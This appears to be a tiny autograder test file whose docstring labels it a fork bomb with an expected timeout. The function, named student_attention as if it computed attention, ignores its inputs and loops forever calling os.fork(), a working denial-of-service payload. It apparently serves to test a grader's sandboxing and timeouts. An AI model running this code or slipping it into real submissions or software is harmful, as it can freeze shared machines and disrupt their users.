"""A fork bomb.

Expected: timeout
Graded: whole
"""

import os


def student_attention(Q, K, V, mask=None):
    while True:
        try:
            os.fork()
        except OSError:
            pass
